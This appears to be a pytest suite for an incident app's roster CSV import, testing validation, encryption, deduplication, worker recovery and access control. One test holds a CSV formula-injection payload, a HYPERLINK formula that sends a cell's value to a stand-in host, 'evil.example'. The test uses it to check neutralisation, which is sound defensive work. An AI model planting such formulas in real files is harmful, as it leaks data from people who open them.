"""Roster import through the real services: upload checks, the worker, counts, all-or-nothing."""

from __future__ import annotations

import csv
import gc
import io
import threading
from pathlib import Path

import pytest
import sqlalchemy as sa

from incident_app.errors import InvalidTransition
from incident_app.errors import NotFound
from incident_app.errors import ValidationFailed
from incident_app.models.audit import AuditEvent
from incident_app.models.incident import CaseRole
from incident_app.models.incident import CountSource
from incident_app.models.incident import StateCount
from incident_app.models.roster import ImportMode
from incident_app.models.roster import ImportStatus
from incident_app.models.roster import RosterImport
from incident_app.models.roster import RosterMapping
from incident_app.models.roster import RosterPerson
from incident_app.models.user import Role
from incident_app.services.roster import counts as roster_counts
from incident_app.services.roster import exports as roster_exports
from incident_app.services.roster import people as roster_people
from incident_app.services.roster import staging as roster_staging
from incident_app.services.roster import upload as roster_upload
from incident_app.services.roster import worker as roster_worker
from tests.support.factories import NOW
from tests.support.factories import make_incident
from tests.support.factories import make_user
from tests.support.roster_helpers import HEADER
from tests.support.roster_helpers import csv_bytes
from tests.support.roster_helpers import import_csv
from tests.support.roster_helpers import person
from tests.support.roster_helpers import run_worker
from tests.support.roster_helpers import store_at
from tests.support.roster_helpers import upload


@pytest.fixture
def team(session):
    lead = make_user(session, role=Role.RESPONDER)
    incident = make_incident(
        session, created_by=lead, members={lead: CaseRole.LEAD}, affected_estimate=40
    )
    return lead, incident


@pytest.fixture
def store(tmp_path: Path):
    return store_at(tmp_path)


def people_rows(session, incident_id: int) -> int:
    return (
        session.scalar(
            sa.select(sa.func.count())
            .select_from(RosterPerson)
            .where(RosterPerson.incident_id == incident_id)
        )
        or 0
    )


def stored_counts(session, incident) -> tuple[int | None, dict[str, int]]:
    """The roster figures stored on the incident (total, residents per state)."""
    session.refresh(incident)
    states = session.execute(
        sa.select(StateCount.state, StateCount.residents).where(
            StateCount.incident_id == incident.id, StateCount.source == CountSource.ROSTER
        )
    ).all()
    return incident.roster_total, dict(sorted(states))


def report_rows(session, record: RosterImport, store) -> list[list[str]]:
    data = store.read_verified(record.report_sha256).decode("utf-8")
    return list(csv.reader(io.StringIO(data)))


# -- a good file -----------------------------------------------------------------------------


def test_an_import_counts_people_per_state_and_feeds_the_incident(session, team, store) -> None:
    lead, incident = team
    data = csv_bytes(
        person("MRN1", "Zoë", "O'Brien", state="New York"),
        person("MRN2", "Luis", "Peña", state="ny", zip_code="12207-1234"),
        person("MRN3", state="", zip_code="02134"),  # state from the ZIP: MA
        person("MRN4", state="D.C.", zip_code="20001"),
        person(
            "MRN5",
            state="PR",
            zip_code="00901",
            deceased="Y",
            nok=("Rosa Peña", "1 Calle Luna", "San Juan", "PR", "00901"),
        ),
        person("MRN6", state="", zip_code="", line1="", city=""),  # nothing known
    )

    record = import_csv(session, actor=lead, incident_id=incident.id, data=data, store=store)

    assert record.status is ImportStatus.COMMITTED
    assert (record.rows_read, record.rows_accepted, record.rows_rejected) == (6, 6, 0)
    counts = roster_counts.count(session, incident.id)
    assert counts.total == 6
    assert counts.by_state == {"DC": 1, "MA": 1, "NY": 2, "PR": 1}
    assert counts.unknown_state == 1
    assert counts.deceased_with_nok_address == 1
    assert counts.insufficient_contact_living == 1  # MRN6 only; MRN5 is deceased
    session.refresh(incident)
    assert (incident.roster_total, incident.insufficient_contact_living) == (6, 1)
    stored = {
        (c.state, c.residents) for c in incident.state_counts if c.source == CountSource.ROSTER
    }
    assert stored == {("DC", 1), ("MA", 1), ("NY", 2), ("PR", 1)}


def test_phi_is_encrypted_and_reads_back_with_its_row_key(session, team, store) -> None:
    lead, incident = team
    import_csv(
        session,
        actor=lead,
        incident_id=incident.id,
        store=store,
        data=csv_bytes(person("MRN-77", "Zoë", "O'Brien", email="zoe@example.org")),
    )

    blob = session.scalar(sa.select(RosterPerson.phi))
    assert b"O'Brien" not in blob and b"MRN-77" not in blob and b"zoe@" not in blob
    person_row = session.scalar(sa.select(RosterPerson))
    phi = roster_people.decrypt(store.keyring, person_row)
    assert (phi["ext"], phi["fn"], phi["ln"], phi["dob"]) == (
        "MRN-77",
        "Zoë",
        "O'Brien",
        "1980-04-02",
    )


def test_semicolons_a_bom_and_quoted_fields_are_read(session, team, store) -> None:
    lead, incident = team
    header = HEADER.replace(",", ";")
    row = person("MRN1", "Ana", "Smith, Jr.", line1='Apt "B"; 4 Main St').replace(",", ";")
    # person() quoted the cells that contain delimiters for commas; redo it for semicolons.
    row = ";".join(
        [
            "MRN1",
            "Ana",
            '"Smith, Jr."',
            "1980-04-02",
            '"Apt ""B""; 4 Main St"',
            "",
            "Albany",
            "NY",
            "12207",
            "",
            "",
            "",
            "",
            "",
            "",
            "",
            "",
            "",
            "",
            "",
            "",
            "",
        ]
    )
    data = csv_bytes(row, header=header, bom=True)

    record = import_csv(session, actor=lead, incident_id=incident.id, data=data, store=store)

    assert record.status is ImportStatus.COMMITTED and record.delimiter == ";"
    phi = roster_people.decrypt(store.keyring, session.scalar(sa.select(RosterPerson)))
    assert (phi["ln"], phi["a1"]) == ("Smith, Jr.", 'Apt "B"; 4 Main St')


# -- rows rejected, warnings, duplicates --------------------------------------------------------


def test_bad_rows_go_to_the_report_and_good_rows_are_imported(session, team, store) -> None:
    lead, incident = team
    data = csv_bytes(
        person("MRN1"),
        person("MRN2", state="Nowhere"),
        person("MRN3", dob="2031-01-01"),
        person("MRN4") + ",extra",
        person("MRN5", zip_code="ABCDE"),
        person("MRN6", first="", last=""),
        person("MRN7", dob="01/02/03"),
    )

    record = import_csv(session, actor=lead, incident_id=incident.id, data=data, store=store)

    assert record.status is ImportStatus.COMMITTED
    assert (record.rows_read, record.rows_accepted, record.rows_rejected) == (7, 2, 5)
    rows = report_rows(session, record, store)
    assert rows[0] == ["row", "column", "outcome", "reason", "value"]
    by_row = {int(r[0]): r for r in rows[1:]}
    assert by_row[3][1:3] == ["state", "rejected"] and "unknown state 'Nowhere'" in by_row[3][3]
    assert by_row[4][1] == "date_of_birth" and "2031-01-01 is in the future" in by_row[4][3]
    assert "has 23 fields but the header has 22" in by_row[5][3]
    assert by_row[6][1:3] == ["zip", "warning"]  # kept: the address is insufficient
    assert by_row[7][3].startswith("the name is missing")
    assert "not a date" in by_row[8][3]
    assert roster_counts.count(session, incident.id).insufficient_contact_living == 1


def test_formula_values_are_stored_as_text_and_neutralised_in_the_report(
    session, team, store
) -> None:
    lead, incident = team
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    data = csv_bytes(person("MRN1", first=evil), person("MRN2", state="@SUM(1)"))

    record = import_csv(session, actor=lead, incident_id=incident.id, data=data, store=store)

    phi = roster_people.decrypt(store.keyring, session.scalar(sa.select(RosterPerson)))
    assert phi["fn"] == evil  # stored exactly as given
    rows = report_rows(session, record, store)
    assert rows[1][4] == "'@SUM(1)"
    exported = "".join(
        roster_exports.export_roster(
            session, actor=lead, now=NOW, incident_id=incident.id, keyring=store.keyring
        )
    )
    line = list(csv.reader(io.StringIO(exported)))[1]
    assert line[2] == "'" + evil
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in line)


def test_duplicates_in_a_file_are_merged_into_the_first_record(session, team, store) -> None:
    lead, incident = team
    data = csv_bytes(
        person("MRN1", "Ana", "Lee"),
        person("mrn1 ", "Ana", "Lee", line1="99 Other Rd"),  # same external id (normalised)
        person("MRN9", "ana", "LEE"),  # same name + DOB + address, other id
        person("MRN3", "Bo", "Lee"),
    )

    record = import_csv(session, actor=lead, incident_id=incident.id, data=data, store=store)

    assert (record.rows_accepted, record.rows_merged) == (4, 2)
    counts = roster_counts.count(session, incident.id)
    assert (counts.total, counts.merged_duplicates) == (2, 2)
    merged = [r for r in report_rows(session, record, store)[1:] if r[2] == "merged"]
    assert [(r[0], "row 2" in r[3]) for r in merged] == [("3", True), ("4", True)]


def test_append_merges_people_already_on_the_roster_and_replace_starts_over(
    session, team, store
) -> None:
    lead, incident = team
    import_csv(
        session,
        actor=lead,
        incident_id=incident.id,
        store=store,
        data=csv_bytes(person("MRN1"), person("MRN2", state="CA", zip_code="94105")),
    )

    appended = import_csv(
        session,
        actor=lead,
        incident_id=incident.id,
        store=store,
        mode=ImportMode.APPEND,
        data=csv_bytes(
            person("MRN2", state="CA", zip_code="94105"),
            person("MRN3", state="TX", zip_code="73301"),
        ),
    )
    assert appended.rows_merged == 1
    assert roster_counts.count(session, incident.id).by_state == {"CA": 1, "NY": 1, "TX": 1}
    # The worker counts its rows before the flip; what it stored is what a recount gives.
    assert stored_counts(session, incident) == (3, {"CA": 1, "NY": 1, "TX": 1})

    replaced = import_csv(
        session,
        actor=lead,
        incident_id=incident.id,
        store=store,
        data=csv_bytes(person("MRN8", state="FL", zip_code="33101")),
    )
    assert replaced.status is ImportStatus.COMMITTED
    assert roster_counts.count(session, incident.id).by_state == {"FL": 1}
    assert stored_counts(session, incident) == (1, {"FL": 1})
    statuses = session.scalars(
        sa.select(RosterImport.status)
        .where(RosterImport.incident_id == incident.id)
        .order_by(RosterImport.id)
    ).all()
    assert statuses == [ImportStatus.SUPERSEDED, ImportStatus.SUPERSEDED, ImportStatus.COMMITTED]
    assert people_rows(session, incident.id) == 1  # superseded rows were purged
    actions = session.scalars(
        sa.select(AuditEvent.action).where(AuditEvent.incident_id == incident.id)
    ).all()
    assert actions.count("roster.import_uploaded") == 3
    assert actions.count("roster.import_committed") == 3


# -- files refused at upload: nothing stored, nothing written ------------------------------------


def _refused(session, team, store, data: bytes, **kwargs) -> str:
    lead, incident = team
    with pytest.raises(ValidationFailed) as caught:
        upload(session, actor=lead, incident_id=incident.id, data=data, store=store, **kwargs)
    assert caught.value.field == "file"
    assert session.scalar(sa.select(sa.func.count()).select_from(RosterImport)) == 0
    assert not list(store.iter_hashes())
    return str(caught.value)


def test_an_empty_file_is_refused(session, team, store) -> None:
    assert "The file is empty" in _refused(session, team, store, b"")


def test_a_header_only_file_is_refused(session, team, store) -> None:
    message = _refused(session, team, store, csv_bytes())
    assert "header row but no people" in message


def test_a_latin1_file_is_refused_with_how_to_fix_it(session, team, store) -> None:
    data = csv_bytes(person("MRN1", "José")).decode("utf-8").encode("latin-1")
    message = _refused(session, team, store, data)
    assert "not UTF-8" in message and "line 2" in message and "0xE9" in message
    assert "CSV UTF-8" in message


def test_a_binary_file_renamed_csv_is_refused(session, team, store) -> None:
    assert "not a text CSV" in _refused(session, team, store, bytes(range(256)) * 10)
    assert "Excel workbook" in _refused(session, team, store, b"PK\x03\x04" + bytes(100))


def test_a_file_over_the_size_limit_is_refused_before_it_is_read(
    session, team, store, tmp_path: Path
) -> None:
    lead, incident = team
    sparse = tmp_path / "huge.csv"
    with open(sparse, "wb") as handle:  # 200 MB on paper, no blocks on disk
        handle.truncate(200 * 1024 * 1024)

    with open(sparse, "rb") as handle, pytest.raises(ValidationFailed) as caught:
        roster_upload.create_import(
            session,
            actor=lead,
            now=NOW,
            incident_id=incident.id,
            upload=handle,
            filename="huge.csv",
            mode=ImportMode.REPLACE,
            store=store,
            max_bytes=150 * 1024 * 1024,
        )
        assert handle.tell() == 0  # pragma: no cover - raised before

    assert "The file is 200.0 MB; a roster file may be at most 150 MB" in str(caught.value)
    assert session.scalar(sa.select(sa.func.count()).select_from(RosterImport)) == 0


def test_a_file_over_a_small_configured_limit_is_refused(session, team, store) -> None:
    message = _refused(session, team, store, csv_bytes(person("MRN1")), max_bytes=100)
    assert "at most 0 MB" not in message or "Split it" in message


def test_a_missing_required_column_asks_for_a_mapping_and_cannot_be_skipped(
    session, team, store
) -> None:
    lead, incident = team
    header = HEADER.replace("date_of_birth", "notes")
    record = upload(
        session,
        actor=lead,
        incident_id=incident.id,
        store=store,
        data=csv_bytes(person("MRN1"), header=header),
    )
    assert record.status is ImportStatus.NEEDS_MAPPING
    assert run_worker(session, store) is None  # not queued: the worker leaves it alone

    with pytest.raises(ValidationFailed) as caught:
        roster_upload.confirm_mapping(
            session,
            actor=lead,
            now=NOW,
            incident_id=incident.id,
            import_id=record.id,
            mapping=record.mapping,
        )
    assert caught.value.field == "date_of_birth"
    assert str(caught.value).startswith("Date of birth is required")
    assert people_rows(session, incident.id) == 0


def test_a_confirmed_mapping_is_used_and_remembered_for_the_incident(session, team, store) -> None:
    lead, incident = team
    header = "Patient MRN,Given,Family,Birth,Street,City,ST,Postal,Extra"
    row = "A1,Ana,Ruiz,1970-01-05,1 Main St,Austin,TX,73301,x"
    record = upload(
        session,
        actor=lead,
        incident_id=incident.id,
        store=store,
        data=csv_bytes(row, header=header),
    )
    assert record.status is ImportStatus.NEEDS_MAPPING
    mapping = {
        "external_id": "Patient MRN",
        "first_name": "Given",
        "last_name": "Family",
        "date_of_birth": "Birth",
        "address_line1": "Street",
        "city": "City",
        "state": "ST",
        "zip": "Postal",
    }

    roster_upload.confirm_mapping(
        session, actor=lead, now=NOW, incident_id=incident.id, import_id=record.id, mapping=mapping
    )
    assert run_worker(session, store).status is ImportStatus.COMMITTED
    assert session.get(RosterMapping, incident.id).mapping == mapping

    again = upload(
        session,
        actor=lead,
        incident_id=incident.id,
        store=store,
        data=csv_bytes(row.replace("A1", "A2"), header=header),
    )
    assert again.status is ImportStatus.QUEUED


def test_a_header_used_twice_in_a_mapping_is_refused(session, team, store) -> None:
    lead, incident = team
    record = upload(
        session,
        actor=lead,
        incident_id=incident.id,
        store=store,
        data=csv_bytes("1,2", header="a,b"),
    )
    mapping = dict.fromkeys(
        (
            "external_id",
            "first_name",
            "last_name",
            "date_of_birth",
            "address_line1",
            "city",
            "state",
            "zip",
        ),
        "a",
    )
    with pytest.raises(ValidationFailed, match="already used for External id"):
        roster_upload.confirm_mapping(
            session,
            actor=lead,
            now=NOW,
            incident_id=incident.id,
            import_id=record.id,
            mapping=mapping,
        )


# -- files that fail part-way: nothing imported ---------------------------------------------------


def test_a_file_that_stops_being_utf8_after_the_head_imports_nothing(session, team, store) -> None:
    lead, incident = team
    import_csv(
        session, actor=lead, incident_id=incident.id, store=store, data=csv_bytes(person("OLD1"))
    )
    good = [person(f"MRN{n}") for n in range(1500)]  # > 64 KB of good rows first
    data = csv_bytes(*good) + person("BAD", "José").encode("latin-1") + b"\r\n"

    record = import_csv(session, actor=lead, incident_id=incident.id, data=data, store=store)

    assert record.status is ImportStatus.FAILED
    assert record.message.startswith("Row 1502 is not UTF-8 text")
    assert "Nothing was imported" in record.message
    assert roster_counts.count(session, incident.id).total == 1  # the old roster, untouched
    assert people_rows(session, incident.id) == 1  # staged rows removed


def test_a_file_where_every_row_is_rejected_imports_nothing(session, team, store) -> None:
    lead, incident = team
    record = import_csv(
        session,
        actor=lead,
        incident_id=incident.id,
        store=store,
        data=csv_bytes(person("MRN1", state="ZZ")),
    )
    assert record.status is ImportStatus.FAILED
    assert record.message.startswith("None of the 1 rows could be imported")
    session.refresh(incident)
    assert incident.roster_total is None


def test_a_cancelled_import_is_not_run(session, team, store) -> None:
    lead, incident = team
    record = upload(
        session, actor=lead, incident_id=incident.id, store=store, data=csv_bytes(person("MRN1"))
    )
    roster_upload.cancel_import(
        session, actor=lead, now=NOW, incident_id=incident.id, import_id=record.id
    )
    assert run_worker(session, store) is None
    with pytest.raises(InvalidTransition):
        roster_upload.cancel_import(
            session, actor=lead, now=NOW, incident_id=incident.id, import_id=record.id
        )


def test_an_interrupted_import_is_cleaned_up_and_queued_again(session, team, store) -> None:
    lead, incident = team
    record = upload(
        session, actor=lead, incident_id=incident.id, store=store, data=csv_bytes(person("MRN1"))
    )
    # What a killed worker leaves: RUNNING, an old heartbeat, invisible staged rows.
    record.status, record.attempts = ImportStatus.RUNNING, 1
    record.heartbeat_at = NOW.replace(hour=NOW.hour - 1)
    session.add(
        RosterPerson(
            incident_id=incident.id,
            import_id=record.id,
            row_number=2,
            phi=b"x",
            address_status="missing",
        )
    )
    session.commit()
    assert roster_counts.count(session, incident.id).total == 0

    assert roster_worker.recover_interrupted(session, now=NOW) == [record.id]
    assert people_rows(session, incident.id) == 0
    assert run_worker(session, store).status is ImportStatus.COMMITTED
    assert roster_counts.count(session, incident.id).total == 1


def test_a_database_error_while_staging_gives_the_import_back_and_leaves_the_roster_as_it_was(
    session, team, store, monkeypatch
) -> None:
    lead, incident = team
    import_csv(
        session,
        actor=lead,
        incident_id=incident.id,
        store=store,
        data=csv_bytes(person("OLD1", "Ana"), person("OLD2", "Bea")),
    )
    record = upload(
        session,
        actor=lead,
        incident_id=incident.id,
        store=store,
        data=csv_bytes(*[person(f"MRN{n}") for n in range(50)]),
    )
    real_stage_rows, calls = roster_staging.stage_rows, []

    def failing_second_batch(connection, rows) -> None:
        calls.append(len(rows))
        if len(calls) == 2:
            raise sa.exc.OperationalError("INSERT", {}, Exception("disk I/O error"))
        real_stage_rows(connection, rows)

    monkeypatch.setattr(roster_staging, "stage_rows", failing_second_batch)
    threads_before, gc_before = threading.active_count(), gc.get_threshold()

    with pytest.raises(sa.exc.OperationalError, match="disk I/O error"):
        roster_worker.run_next(
            session, keyring=store.keyring, store=store, clock=lambda: NOW, batch_rows=20
        )

    session.rollback()
    assert calls == [20, 20]  # the writer stopped at the failing batch
    assert threading.active_count() == threads_before  # its thread is gone
    # The collector is as it was (staging freezes the heap and collects less often).
    assert (gc.get_threshold(), gc.get_freeze_count()) == (gc_before, 0)
    assert roster_counts.count(session, incident.id).total == 2  # the old roster, untouched
    staged = (
        sa.select(sa.func.count())
        .select_from(RosterPerson)
        .where(RosterPerson.import_id == record.id)
    )
    # The import is given back at once (not left RUNNING until it goes stale): the first
    # batch's staged rows are dropped and the job's retry runs it again.
    session.refresh(record)
    assert (record.status, record.attempts) == (ImportStatus.QUEUED, 1)
    assert "it will start again" in record.message
    assert session.scalar(staged) == 0
    assert roster_worker.recover_interrupted(session, now=NOW.replace(hour=NOW.hour + 1)) == []
    again = roster_worker.run_next(
        session, keyring=store.keyring, store=store, clock=lambda: NOW, batch_rows=20
    )
    assert again is not None and again.status is ImportStatus.COMMITTED and again.attempts == 2
    assert session.scalar(staged) == 50  # each row once: nothing left of the failed run
    assert roster_counts.count(session, incident.id).total == 50 - again.rows_merged


# -- access ---------------------------------------------------------------------------------------


def test_only_the_team_can_upload(session, team, store) -> None:
    _lead, incident = team
    outsider = make_user(session, role=Role.RESPONDER)
    with pytest.raises(NotFound):
        upload(
            session,
            actor=outsider,
            incident_id=incident.id,
            store=store,
            data=csv_bytes(person("MRN1")),
        )


def test_roster_state_counts_replace_the_estimate_which_stays_as_history(
    session, team, store
) -> None:
    lead, incident = team
    session.add(
        StateCount(incident_id=incident.id, source=CountSource.ESTIMATE, state="NY", residents=40)
    )
    session.commit()
    import_csv(
        session,
        actor=lead,
        incident_id=incident.id,
        store=store,
        data=csv_bytes(person("MRN1"), person("MRN2", state="VT", zip_code="05401")),
    )
    rows = session.execute(
        sa.select(StateCount.source, StateCount.state, StateCount.residents)
        .where(StateCount.incident_id == incident.id)
        .order_by(StateCount.source, StateCount.state)
    ).all()
    assert [tuple(r) for r in rows] == [
        ("estimate", "NY", 40),
        ("roster", "NY", 1),
        ("roster", "VT", 1),
    ]
